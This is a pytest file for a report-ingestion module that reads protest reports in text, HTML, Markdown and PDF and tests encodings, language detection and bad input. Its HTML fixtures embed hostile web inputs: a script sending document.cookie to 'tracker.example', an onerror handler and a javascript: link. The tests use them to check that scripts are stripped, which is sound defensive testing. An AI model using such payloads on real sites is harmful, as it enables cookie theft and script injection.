"""Reading reports: every input kind, every kind of bad input (issue 2, "Bad input")."""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
from datetime import datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter

from rasad.config import get_settings
from rasad.ingest import (
    BinaryInput,
    EmptyInput,
    IngestError,
    TooLarge,
    UnsupportedInput,
    expand_paths,
    read_bytes,
    read_path,
)
from tests.conftest import SEED_PATH

ENGLISH = (
    "Protesters gathered in Zahedan on Friday after prayers, witnesses said. Security forces "
    "fired on the crowd, according to the rights group, and several people were arrested.\n"
)
# Real Persian as Windows writes it: Arabic yeh and kaf (cp1256 has no Persian yeh), ZWNJ, پ گ چ ژ.
PERSIAN = (
    "در پي ادامه اعتراض‌ها، گروهي از دانشجويان گفتند كه نيروهاي امنيتي چند نفر را بازداشت "
    "كرده‌اند. پدر يكي از بازداشت‌شدگان گفت پسرش گم شده است و هيچ خبري از او ندارند. "
    "ژاله و چند تن ديگر نيز احضار شدند.\n"
)


def one_line(err: BaseException) -> str:
    message = str(err)
    assert message and "\n" not in message
    return message


@pytest.fixture
def max_input_bytes(monkeypatch):
    """Lower Settings.max_input_bytes for one test (settings are cached: clear before and after)."""

    def set_limit(limit: int) -> None:
        monkeypatch.setenv("RASAD_MAX_INPUT_BYTES", str(limit))
        get_settings.cache_clear()

    yield set_limit
    monkeypatch.delenv("RASAD_MAX_INPUT_BYTES", raising=False)
    get_settings.cache_clear()


# --- plain text: identity, original bytes, metadata -----------------------------------------


def test_seed_report_keeps_original_bytes_and_hash():
    data = SEED_PATH.read_bytes()
    report = read_path(SEED_PATH)
    assert report.original == data
    assert report.id == report.sha256 == hashlib.sha256(data).hexdigest()
    assert report.text == data.decode("utf-8")
    assert report.media_type == "text/plain"
    assert report.title == data.decode().strip().splitlines()[0].strip()
    assert report.language == "en" and report.language_supported
    assert report.source == str(SEED_PATH)
    assert datetime.fromisoformat(report.retrieved_at).utcoffset().total_seconds() == 0


def test_same_bytes_same_id_different_bytes_different_id():
    assert read_bytes(ENGLISH.encode()).id == read_bytes(ENGLISH.encode(), source="copy.txt").id
    assert read_bytes(ENGLISH.encode()).id != read_bytes((ENGLISH + " ").encode()).id


def test_newlines_are_kept_as_they_are_so_offsets_index_the_stored_text():
    text = "Title line\r\n\r\nFirst paragraph of the report.\rOld Mac line.\n" + ENGLISH
    report = read_bytes(text.encode())
    assert report.text == text
    assert report.title == "Title line"


def test_long_first_line_is_not_a_title():
    assert read_bytes(("word " * 100 + "\n" + ENGLISH).encode()).title is None


# --- bad input: empty, binary, huge ----------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n  ", "\ufeff \n".encode()])
def test_empty_or_whitespace_input_is_a_clear_error(data):
    with pytest.raises(EmptyInput) as err:
        read_bytes(data)
    assert "empty" in one_line(err.value) or "whitespace" in one_line(err.value)


def test_empty_file_names_the_file(tmp_path):
    path = tmp_path / "empty.txt"
    path.write_bytes(b"")
    with pytest.raises(EmptyInput, match="empty.txt"):
        read_path(path)


@pytest.mark.parametrize(
    "data",
    [
        random.Random(0).randbytes(20_000),  # random junk (has NULs)
        bytes(b for b in random.Random(1).randbytes(20_000) if b),  # random junk without NULs
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(2).randbytes(500),  # an image
        b"\x00" * 1000 + ENGLISH.encode(),  # NUL-heavy
        b"PK\x03\x04" + random.Random(3).randbytes(300),  # a zip / docx
    ],
    ids=["random", "random-no-nul", "png", "nul-heavy", "zip"],
)
def test_binary_junk_is_refused(data):
    with pytest.raises(BinaryInput) as err:
        read_bytes(data)
    assert "looks binary" in one_line(err.value)


def test_binary_errors_name_the_format_and_text_starting_like_a_signature_is_text():
    with pytest.raises(BinaryInput, match="a PNG image"):
        read_bytes(b"\x89PNG\r\n\x1a\n" + bytes(50))
    with pytest.raises(BinaryInput, match=r"\.docx"):
        read_bytes(b"PK\x03\x04\x14\x00\x06\x00" + bytes(50))
    assert read_bytes(b"MZA reported that " + ENGLISH.encode()).text.startswith("MZA reported")


def test_input_over_the_limit_is_refused_before_reading(tmp_path, max_input_bytes):
    max_input_bytes(1000)
    path = tmp_path / "big.txt"
    path.write_bytes(ENGLISH.encode() * 50)
    with pytest.raises(TooLarge, match="over the limit of 1,000 bytes"):
        read_path(path)
    with pytest.raises(TooLarge):
        read_bytes(ENGLISH.encode() * 50)


@pytest.mark.timeout(120)  # a guard against quadratic work, not a benchmark
def test_fifty_megabyte_text_file_ingests(tmp_path):
    line = ENGLISH.encode()
    data = line * (50 * 1024 * 1024 // len(line) + 1)
    path = tmp_path / "huge.txt"
    path.write_bytes(data)
    report = read_path(path)
    assert len(report.original) == len(data) > 50 * 1024 * 1024
    assert report.sha256 == hashlib.sha256(data).hexdigest()
    assert len(report.text) == len(data)  # all ASCII: one character per byte, nothing lost
    assert report.language == "en"


def test_folder_and_fifo_are_refused_without_hanging(tmp_path):
    with pytest.raises(UnsupportedInput, match="is a folder"):
        read_path(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(UnsupportedInput, match="not a regular file"):
        read_path(fifo)
    with pytest.raises(IngestError, match="no such file"):
        read_path(tmp_path / "missing.txt")


# --- encodings ---------------------------------------------------------------------------------


def test_invalid_utf8_keeps_the_valid_text_and_flags_the_bad_bytes():
    good = "Protesters said “enough” — the café closed. " * 4
    report = read_bytes(good.encode() + b"\xff\xfe\xc3" + ENGLISH.encode())
    assert report.text.startswith(good)
    assert report.text.endswith(ENGLISH)
    assert "encoding:utf-8" in report.flags
    assert "invalid-bytes-replaced:3" in report.flags


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_with_bom_is_decoded_and_the_bom_dropped(codec):
    bom = b"\xff\xfe" if codec == "utf-16-le" else b"\xfe\xff"
    report = read_bytes(bom + ENGLISH.encode(codec))
    assert report.text == ENGLISH
    assert f"encoding:{codec}" in report.flags
    assert report.original.startswith(bom)  # the original bytes are never modified


def test_utf16_without_bom_persian_is_still_text():
    report = read_bytes(PERSIAN.encode("utf-16-le"))
    assert report.text == PERSIAN


def test_utf8_bom_is_dropped_from_text_only():
    report = read_bytes(b"\xef\xbb\xbf" + ENGLISH.encode())
    assert report.text == ENGLISH
    assert report.original.startswith(b"\xef\xbb\xbf")


def test_windows_1256_persian_is_decoded_right_and_analysable():
    data = PERSIAN.encode("cp1256")
    report = read_bytes(data)
    assert report.text == PERSIAN
    assert "encoding:windows-1256" in report.flags
    assert report.language == "fa"
    assert report.language_supported is True
    assert "language:fa" not in report.flags
    assert report.original == data


@pytest.mark.parametrize(
    ("text", "codec", "label"),
    [
        ("Le président a déclaré que les manifestants étaient nombreux à Téhéran.", "cp1252", "windows-1252"),
        ("Café society in Zürich, naïve résumé: the quick brown fox jumped again.", "latin-1", "windows-1252"),
        ("Протестующие собрались в Тегеране в субботу, сообщили свидетели.", "cp1251", "windows-1251"),
    ],
)
def test_legacy_code_pages_round_trip(text, codec, label):
    report = read_bytes(text.encode(codec))
    assert report.text == text
    assert f"encoding:{label}" in report.flags


# --- language ----------------------------------------------------------------------------------


def test_language_detection_is_deterministic_and_short_text_is_uncertain():
    assert {read_bytes(ENGLISH.encode()).language for _ in range(3)} == {"en"}
    short = read_bytes(b"Tehran, 3 May.")
    assert short.language == "en" and short.language_supported
    assert "language:uncertain" in short.flags


def test_german_report_is_stored_but_not_analysed():
    german = "Demonstranten versammelten sich am Freitag nach dem Gebet in Zahedan, sagten Zeugen. " * 3
    report = read_bytes(german.encode())
    assert report.language == "de" and not report.language_supported
    assert "language:de" in report.flags
    assert report.text == german


# --- HTML --------------------------------------------------------------------------------------

ARTICLE_HTML = """<!doctype html>
<html><head><title>Ignored page title | Site</title>
<meta name="author" content="Jane Roe">
<meta property="og:site_name" content="IranWire">
<meta property="og:title" content="Zahedan prayers end in gunfire">
<link rel="canonical" href="https://iranwire.example/en/zahedan">
<meta property="article:published_time" content="2023-03-21T10:00:00+00:00">
<script>document.title = 'SCRIPT_IN_HEAD'; fetch('https://tracker.example/?c=' + document.cookie)</script>
</head><body>
<nav>Home | News | About</nav>
<article><h1>Zahedan prayers end in gunfire</h1>
<p>{body}</p>
<img src="x" onerror="alert('ONERROR_PAYLOAD')">
<script>var secret = 'SCRIPT_IN_BODY';</script>
<p>Witnesses said the shooting lasted an hour. <a href="javascript:alert('JS_LINK')">Read more</a></p>
<noscript>NOSCRIPT_TEXT</noscript><style>.x {{ content: 'STYLE_TEXT' }}</style>
</article></body></html>""".format(body=ENGLISH * 4)


def test_html_main_text_and_metadata():
    report = read_bytes(ARTICLE_HTML.encode(), source="page.html")
    assert report.media_type == "text/html"
    assert "Security forces fired on the crowd" in report.text
    assert "Witnesses said the shooting lasted an hour." in report.text
    assert report.title == "Zahedan prayers end in gunfire"
    assert report.author == "Jane Roe"
    assert report.publisher == "IranWire"
    assert report.published_at == "2023-03-21"
    assert report.url == "https://iranwire.example/en/zahedan"
    assert report.language == "en"
    assert report.original == ARTICLE_HTML.encode()


def test_a_date_in_the_article_text_is_not_the_publication_date():
    page = f"<html><head><title>Zahedan</title></head><body><article><p>On 3 January 2021 {ENGLISH * 3}</p></article></body></html>"
    assert read_bytes(page.encode()).published_at is None


@pytest.mark.parametrize(
    "markup",
    [ARTICLE_HTML, "<html><body><script>var x='SCRIPT_IN_BODY'</script><p>Short page.</p></body></html>"],
    ids=["article", "short-page"],
)
def test_html_scripts_and_handlers_never_become_text(markup):
    report = read_bytes(markup.encode())
    for marker in ("SCRIPT_IN_HEAD", "SCRIPT_IN_BODY", "ONERROR_PAYLOAD", "JS_LINK", "STYLE_TEXT", "alert("):
        assert marker not in report.text
    assert report.text.strip()


def test_html_is_sniffed_without_a_name_and_declared_charset_is_used():
    page = f'<html><head><meta charset="windows-1256"><title>خبر</title></head><body><p>{PERSIAN}</p></body></html>'
    report = read_bytes(page.encode("cp1256"))
    assert report.media_type == "text/html"
    assert PERSIAN.strip() in report.text
    assert "encoding:windows-1256" in report.flags
    from_header = read_bytes(page.encode("cp1256"), media_type="text/html; charset=windows-1256")
    assert from_header.text == report.text


@pytest.mark.timeout(60)
def test_very_large_html_is_read_plainly_without_scripts():
    paragraph = f"<p>{ENGLISH.strip()}</p><p>{PERSIAN.strip()}</p>\n"
    page = (
        "<html><head><title>Archive of reports</title></head><body><script>var SCRIPT_IN_BODY=1;</script>"
        + paragraph * (1_200_000 // len(paragraph))
        + "<style>.x{}</style><!-- COMMENT_TEXT --></body></html>"
    )
    report = read_bytes(page.encode())
    assert "extraction:large-html" in report.flags
    assert report.title == "Archive of reports"
    assert report.text.startswith(ENGLISH.strip() + "\n" + PERSIAN.strip() + "\n")  # ZWNJ kept, one line per block
    for marker in ("SCRIPT_IN_BODY", "COMMENT_TEXT", ".x{}"):
        assert marker not in report.text


def test_utf8_page_that_declares_a_legacy_charset_is_read_as_utf8():
    page = f'<html><head><meta charset="windows-1256"></head><body><p>{PERSIAN}</p></body></html>'
    report = read_bytes(page.encode("utf-8"))
    assert PERSIAN.strip() in report.text
    assert "encoding:utf-8" in report.flags and "declared-charset-ignored" in report.flags


def test_malformed_html_does_not_crash():
    report = read_bytes(b"<html><body><p>Unclosed <b>bold <i>italic " + ENGLISH.encode() + b"</div></span>")
    assert "Security forces fired" in report.text


def test_html_with_only_scripts_is_a_flagged_empty_report():
    report = read_bytes(b"<html><body><script>alert(1)</script></body></html>")
    assert report.text == "" and "no-text" in report.flags
    assert report.language_supported is False


# --- Markdown ----------------------------------------------------------------------------------


def test_markdown_becomes_plain_text():
    source = (
        "# Arrests in Tabriz\n\nStudents were *detained* on **Monday**, said [HRANA](https://hrana.example).\n\n"
        "- first item\n- second item\n\n<div><script>alert('MD_SCRIPT')</script>Inner note</div>\n"
    )
    report = read_bytes(source.encode(), source="notes.md")
    assert report.media_type == "text/markdown"
    assert report.title == "Arrests in Tabriz"
    assert "Students were detained on Monday, said HRANA." in report.text
    assert "first item" in report.text and "Inner note" in report.text
    for markup in ("*", "](", "#", "MD_SCRIPT", "<div>"):
        assert markup not in report.text


# --- PDF ---------------------------------------------------------------------------------------


def pdf_with_text(line: str) -> bytes:
    """A minimal one-page PDF with one line of Helvetica text, written by hand (xref offsets included)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({line}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def blank_pdf(**encrypt) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    if encrypt:
        writer.encrypt(algorithm="RC4-128", **encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pdf_with_text_layer():
    line = "Protesters gathered in Zahedan on Friday after prayers, witnesses said."
    data = pdf_with_text(line)
    assert PdfReader(io.BytesIO(data)).pages[0].extract_text().strip() == line  # the fixture is sound
    report = read_bytes(data, source="report.pdf")
    assert report.media_type == "application/pdf"
    assert report.text == line
    assert report.title == line
    assert report.language == "en"
    assert report.original == data


def test_pdf_without_text_layer_is_a_flagged_empty_report():
    report = read_bytes(blank_pdf())
    assert report.text == ""
    assert "no-text-layer" in report.flags
    assert report.language is None and report.language_supported is False


def test_pdf_is_recognised_by_content_whatever_its_name():
    report = read_bytes(blank_pdf(), source="scan.txt", media_type="text/html")
    assert report.media_type == "application/pdf"


def test_encrypted_and_corrupt_pdfs_are_clear_errors():
    with pytest.raises(UnsupportedInput, match="encrypted"):
        read_bytes(blank_pdf(user_password="secret"))
    with pytest.raises(UnsupportedInput, match="corrupt"):
        read_bytes(blank_pdf()[:300])
    opened = read_bytes(blank_pdf(user_password="", owner_password="owner"))  # permissions only
    assert "pdf:encrypted-empty-password" in opened.flags


# --- paths -------------------------------------------------------------------------------------


def test_expand_paths_walks_folders_globs_and_skips_hidden(tmp_path):
    for name in ["b.txt", "a.txt", "sub/c.html", "sub/deeper/d.md", ".hidden.txt", ".git/config", "sub/.e.txt"]:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(ENGLISH)
    rel = lambda paths: [p.relative_to(tmp_path).as_posix() for p in paths]  # noqa: E731
    assert rel(expand_paths([str(tmp_path)])) == ["a.txt", "b.txt", "sub/c.html", "sub/deeper/d.md"]
    assert rel(expand_paths([str(tmp_path / "**" / "*.md"), str(tmp_path / "*.txt")])) == [
        "sub/deeper/d.md",
        "a.txt",
        "b.txt",
    ]
    # a file named outright is read even when hidden; a file named twice comes once
    named = [str(tmp_path / ".hidden.txt"), str(tmp_path / "a.txt"), str(tmp_path)]
    assert rel(expand_paths(named)) == [".hidden.txt", "a.txt", "b.txt", "sub/c.html", "sub/deeper/d.md"]
    with pytest.raises(IngestError, match="no such file or folder"):
        list(expand_paths([str(tmp_path / "missing")]))
    with pytest.raises(IngestError, match="no files match"):
        list(expand_paths([str(tmp_path / "*.pdf")]))


# --- anything at all ---------------------------------------------------------------------------


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.binary(max_size=3000),
        st.text(max_size=500).map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.text(max_size=300).map(lambda t: ("<html><body><p>" + t).encode("utf-8", "surrogatepass")),
        st.binary(max_size=500).map(lambda b: b"%PDF-1.4\n" + b),
    ),
    st.sampled_from([None, "a.txt", "a.md", "a.html", "a.pdf"]),
)
def test_any_bytes_give_a_report_or_an_ingest_error(data, source):
    try:
        report = read_bytes(data, source=source)
    except IngestError as err:
        assert re.fullmatch(r"[^\n]+", str(err))
    else:
        assert report.sha256 == report.id == hashlib.sha256(data).hexdigest()
        assert report.original == data
